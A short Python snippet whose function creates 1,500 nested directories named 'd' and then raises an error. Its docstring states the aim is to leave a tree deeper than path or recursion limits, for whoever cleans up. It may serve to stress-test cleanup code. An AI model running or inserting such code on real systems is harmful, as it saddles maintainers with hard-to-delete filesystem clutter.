"""Leaves folders in folders, deeper than a path or a recursion goes, for whoever cleans up."""

import os


def scale(x):
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    raise RuntimeError("they are there now")
